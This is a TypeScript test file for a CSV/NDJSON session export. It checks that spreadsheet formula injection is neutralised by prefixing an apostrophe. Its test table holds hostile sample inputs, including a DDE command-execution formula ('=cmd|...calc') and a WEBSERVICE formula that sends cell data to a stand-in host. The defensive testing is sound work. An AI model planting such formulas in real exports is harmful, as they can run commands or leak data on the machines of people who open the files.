/** Sessions as files: what is in a cell, which columns there are, and that no cell is a formula. */
import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {toCsv, toNdjson} from '../../src/firebase/admin-export.js';
import {sessionSchema, type Session} from '../../src/session/schema.js';

const aSession = (fields: Partial<Session> = {}): Session => ({
  id: 's1',
  projectId: 'p1',
  eventId: 'e1',
  experienceId: 'x1',
  mode: 'guest',
  configSource: 'published',
  status: 'active',
  currentStepIndex: 0,
  inputs: {},
  outputs: {},
  activeJobId: null,
  resultAssetId: null,
  createdAt: 0,
  updatedAt: 1.5,
  completedAt: null,
  createdBy: 'guest',
  ...fields,
});

/** The cell below the column's heading, in a table of one session. */
async function cell(column: string, fields: Partial<Session>): Promise<string | undefined> {
  const [heading = '', ...lines] = (await toCsv([aSession(fields)])).split('\r\n');
  const body = lines.join('\r\n');
  const at = heading.split(',').indexOf(column);
  return body.match(/("([^"]|"")*"|[^,"]*)(,|\r\n)/g)?.[at]?.replace(/(,|\r\n)$/, '');
}

const CELLS: readonly (readonly [title: string, answer: unknown, cell: string])[] = [
  ['text', 'blue', 'blue'],
  ['nothing', null, ''],
  ['a number', 4, '4'],
  ['a negative number, which no guest can turn into a formula', -4.5, '-4.5'],
  ['a yes', true, 'true'],
  ['a list', ['a', 'b'], '"[""a"",""b""]"'],
  ['an object', {a: 1}, '"{""a"":1}"'],
  ['a comma', 'a,b', '"a,b"'],
  ['a semicolon', 'a;b', '"a;b"'],
  ['a formula after a semicolon', "x;=cmd|' /C calc'!A0;y", `"x;'=cmd|' /C calc'!A0;y"`],
  ['a formula in a second line', 'x\n=1+1', `"x\n'=1+1"`],
  ['a formula after a tab', 'x\t=1+1\ty', `"x\t'=1+1\ty"`],
  ['quotes', 'a "b"', '"a ""b"""'],
  ['lines', 'a\nb', '"a\nb"'],
  ['a formula', '=1+1', "'=1+1"],
  ['a formula that calls home', '=WEBSERVICE("http://a/"&A1)', `"'=WEBSERVICE(""http://a/""&A1)"`],
  ['a plus', '+1', "'+1"],
  ['a minus', '-1+cmd', "'-1+cmd"],
  ['an at', '@SUM(A1)', "'@SUM(A1)"],
  ['a tab first', '\t=1', `"'\t'=1"`],
  ['a carriage return first', '\r=1', `"'\r'=1"`],
  ['a line feed first', '\n1', `"'\n1"`],
  ['blanks before a formula', '  =1', "'  =1"],
  ['a full-width formula', '＝1', "'＝1"],
  ['a formula in a list', ['=1'], '"[""=1""]"'],
];

describe('sessions as CSV', () => {
  for (const [title, answer, expected] of CELLS) {
    it(`holds ${title}`, async () => {
      assert.equal(await cell('inputs.q1', {inputs: {q1: answer}}), expected);
    });
  }

  it('quotes no less in the fields that a host page writes, and in the headings', async () => {
    assert.equal(await cell('context.campaign', {context: {campaign: '=1'}}), "'=1");
    assert.equal(await cell('outputs.photo', {outputs: {photo: {url: '=1', type: 'image'}}}), "'=1");
    const [heading = ''] = (await toCsv([aSession({inputs: {'a,"b"': 1}})])).split('\r\n');
    assert.ok(heading.endsWith('"inputs.a,""b"""'));
  });

  it('has a column for each field, and one for each key that any session has', async () => {
    const one = aSession({inputs: {a: 1}, context: {table: 7}});
    const two = aSession({id: 's2', inputs: {b: 2}, outputs: {photo: {url: 'u', type: 'image'}}});
    const lines = (await toCsv([one, two])).split('\r\n').map((line) => line.split(','));
    const plain = Object.keys(sessionSchema.shape).filter(
      (field) => !/^(context|inputs|outputs)$/.test(field),
    );
    assert.deepEqual(lines[0], [...plain, 'context.table', 'inputs.a', 'inputs.b', 'outputs.photo']);
    assert.deepEqual(lines[1]!.slice(-4), ['7', '1', '', '']);
    assert.deepEqual(lines[2]!.slice(-4), ['', '', '2', 'u']);
  });

  it('writes instants as ISO 8601, and what no date can hold as it is', async () => {
    assert.equal(await cell('createdAt', {createdAt: 0}), '1970-01-01T00:00:00.000Z');
    assert.equal(await cell('completedAt', {completedAt: null}), '');
    assert.equal(await cell('updatedAt', {updatedAt: 1e17}), '100000000000000000');
  });

  it('has nothing but a heading where there are no sessions', async () => {
    assert.equal((await toCsv([])).trim().split('\r\n').length, 1);
  });
});

describe('sessions as NDJSON', () => {
  it('are a line each with all that is stored, fields that nobody knows too', async () => {
    const sessions = [aSession({inputs: {q1: 'a\nb'}}), {...aSession({id: 's2'}), extra: {a: [1]}}];
    const lines: string[] = [];
    for await (const line of toNdjson(sessions)) lines.push(line);
    assert.ok(lines.every((line) => line.indexOf('\n') === line.length - 1));
    assert.deepEqual(
      lines.map((line) => JSON.parse(line) as unknown),
      sessions,
    );
  });
});
